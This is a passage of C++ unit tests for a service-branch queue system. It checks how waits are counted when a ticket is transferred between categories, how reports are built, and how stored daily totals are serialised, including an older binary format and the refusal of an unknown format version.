    auto at = [&](double minutes) { return start + static_cast<lobby::TimeMs>(minutes * 60'000); };
    auto ev = [](lobby::TimeMs t, K kind, const std::string& ticket, int window, const std::string& category = "") {
        lobby::LobbyEvent e;
        e.time = t;
        e.kind = kind;
        e.ticket = ticket;
        e.window = window;
        e.category = kind == K::Issued ? ticket.substr(0, 1) : category;
        return e;
    };
    // B001 waits 35 min for window 3, which sends it on to A after 6 min at the window; its second wait, 22 min on
    // its own clock, ends with window 2's call at minute 63. The report used to count one wait of 35 min in B
    // and none in A, while the card said "waiting again 21 min (62 min in the branch)".
    const std::vector<lobby::LobbyEvent> log = {
        ev(at(0), K::WindowOpen, "", 2),          ev(at(0), K::WindowOpen, "", 3),
        ev(at(0), K::Issued, "B001", 0),          ev(at(35), K::Called, "B001", 3),
        ev(at(35.5), K::Started, "B001", 3),      ev(at(41), K::Transferred, "B001", 3, "A"),
        ev(at(63), K::Called, "B001", 2),         ev(at(63.2), K::Recalled, "B001", 2),
        ev(at(63.5), K::Started, "B001", 2),      ev(at(70), K::Finished, "B001", 2)};
    // What the alerts count: the lobby and the watch fed the same events, looked at just before the second call.
    lobby::Lobby lobbyModel(config);
    forecast::WatchSettings atWarning;
    atWarning.raiseAtWarning = true;
    forecast::Watch watch(atWarning);
    std::optional<forecast::Member> card;
    for (const auto& e : log) {
        if (e.kind == K::Called && e.window == 2) {
            watch.evaluate(lobbyModel, forecast::Forecast{}, e.time);
            for (const auto& a : watch.active())
                if (a.kind == "waits")
                    for (const auto& m : a.members)
                        if (m.ticket == "B001") card = m;
        }
        lobbyModel.apply(e);
        watch.observe(e);
    }
    REQUIRE(card);
    CHECK(card->transferredFrom == 3);
    const report::Report r = report::build(log, {}, config, "2026-01-05", "2026-01-05");
    const report::CategoryFigures& a = r.current.categories[0];
    const report::CategoryFigures& b = r.current.categories[1];
    REQUIRE(a.code == "A");
    REQUIRE(b.code == "B");
    // The second wait in A, on its own clock: what the card said at the call.
    CHECK(a.waits == 1);
    CHECK(a.transferWaits == 1);
    CHECK(a.maxWaitS == Approx(22 * 60.0));
    CHECK(a.maxWaitS * 1000 == Approx(static_cast<double>(card->waitedMs)));
    CHECK(a.withinTarget == 0);  // 22 min against A's 15
    CHECK(a.withinLimit == 1);
    CHECK(a.issued == 0);
    // The first in B, where it was issued; its time in the branch there too.
    CHECK(b.issued == 1);
    CHECK(b.called == 1);
    CHECK(b.served == 1);
    CHECK(b.waits == 1);
    CHECK(b.maxWaitS == Approx(35 * 60.0));
    CHECK(b.transferred == 1);
    CHECK(b.meanInBranchS == Approx(63 * 60.0));
    CHECK(b.meanInBranchS * 1000 == Approx(static_cast<double>(card->inBranchMs)));
    CHECK(r.current.all.waits == 2);
    CHECK(r.current.all.meanWaitS == Approx((35 + 22) * 60.0 / 2));
    int heat = 0;
    for (int d = 0; d < 7; ++d)
        for (int h = 0; h < 24; ++h) heat += r.current.heat[d][h].tickets;
    CHECK(heat == 2);
    // Kept as the day's totals and read back: the same report.
    const auto kept = report::Totals::parse(report::summarize(log, {}, config, "2026-01-05", "2026-01-05").serialize());
    REQUIRE(kept);
    CHECK_FALSE(kept->olderFormat);
    // Without the windows' service times (a report across branches): the same categories, no services.
    const auto lean = report::Totals::parseWithoutServices(report::summarize(log, {}, config, "2026-01-05", "2026-01-05").serialize());
    REQUIRE(lean);
    CHECK(lean->categories.at("A").waits == kept->categories.at("A").waits);
    CHECK(lean->categories.at("B").inBranch == kept->categories.at("B").inBranch);
    CHECK(kept->windows.at(2).services.size() == 1);
    CHECK(lean->windows.at(2).services.empty());
    CHECK(lean->windows.at(2).served == 1);
    const report::Report fromKept = report::buildFromTotals(*kept, report::summarize(log, {}, config, "2026-01-04", "2026-01-04"),
                                                            {}, config, "2026-01-05", "2026-01-05");
    CHECK(report::toJson(fromKept) == report::toJson(r));
    CHECK_THAT(report::toJson(r), Catch::Contains("\"transferred\":1,\"mean_in_branch_s\":3780.0"));
    CHECK_THAT(report::toCsv(r, report::Lang::En), Catch::Contains("Waits after a transfer"));
}

TEST_CASE("day totals kept in format 3 are still read, as their figures were counted then") {
    std::string bytes;
    auto u32 = [&](std::uint32_t v) {
        for (int i = 0; i < 4; ++i) bytes += static_cast<char>((v >> (8 * i)) & 0xff);
    };
    auto i64 = [&](std::int64_t v) {
        for (int i = 0; i < 8; ++i) bytes += static_cast<char>((static_cast<std::uint64_t>(v) >> (8 * i)) & 0xff);
    };
    u32(3);
    u32(1), u32(1), bytes += "A";              // order
    u32(1), u32(1), bytes += "A";              // one category
    for (std::uint32_t v : {2u, 2u, 2u, 0u, 0u, 1u, 2u, 0u}) u32(v);
    i64(0), i64(0);                            // estimate errors
    u32(2), i64(1'200'000), i64(600'000);      // waits, ms
    u32(1), u32(4), u32(2), u32(1), i64(90'000), i64(3'600'000), i64(0), u32(0), u32(0);  // window 4
    u32(2), i64(300'000), i64(500'000);        // its services
    for (int k = 0; k < 7 * 24; ++k) u32(0), i64(0);
    const auto t = report::Totals::parse(bytes);
    REQUIRE(t);
    CHECK(t->olderFormat);
    REQUIRE(t->categories.count("A"));
    CHECK(t->categories.at("A").waits.size() == 2);
    const report::Report r = report::buildFromTotals(*t, {}, {}, branch(), "2026-01-05", "2026-01-05");
    const auto a = std::find_if(r.current.categories.begin(), r.current.categories.end(), [](const auto& c) { return c.code == "A"; });
    REQUIRE(a != r.current.categories.end());
    CHECK(a->meanWaitS == Approx(900));
    CHECK(a->waits == 2);
    CHECK(a->withinTarget == Approx(0.5));
    REQUIRE(r.current.windows.size() == 1);
    CHECK(r.current.windows[0].meanServiceS == Approx(400));
    // Written again, it is of this build's format, and the same figures read back.
    const std::string again = t->serialize();
    CHECK(report::Totals::formatOf(again) == 4);
    CHECK(again.size() < bytes.size());
    const auto back = report::Totals::parse(again);
    REQUIRE(back);
    CHECK_FALSE(back->olderFormat);
    CHECK(report::toJson(report::buildFromTotals(*back, {}, {}, branch(), "2026-01-05", "2026-01-05")) == report::toJson(r));
    // A format this build does not know is refused, not misread.
    std::string future = bytes;
    future[0] = 9;
    CHECK_FALSE(report::Totals::parse(future));
}
